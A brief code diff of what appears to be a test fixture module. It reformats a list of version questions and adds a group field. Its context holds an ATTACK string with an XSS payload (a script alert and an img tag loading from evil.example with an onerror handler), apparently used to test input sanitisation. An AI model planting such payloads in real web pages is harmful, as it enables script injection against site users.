@@ -20,7 +20,10 @@ ATTACK = "<script>alert('x')</script><img src=https://evil.example/x.png onerror
 
 def asked() -> list[Question]:
     return [
-        *(question(f"4.{at}", id=f"q{at}", tags=("version",), stale_answers=("3.9",)) for at in range(6)),
+        *(
+            question(f"4.{at}", id=f"q{at}", tags=("version",), stale_answers=("3.9",), group=f"g{at}")
+            for at in range(6)
+        ),
         question(None, id="q7", tags=("none", ATTACK)),
     ]
 
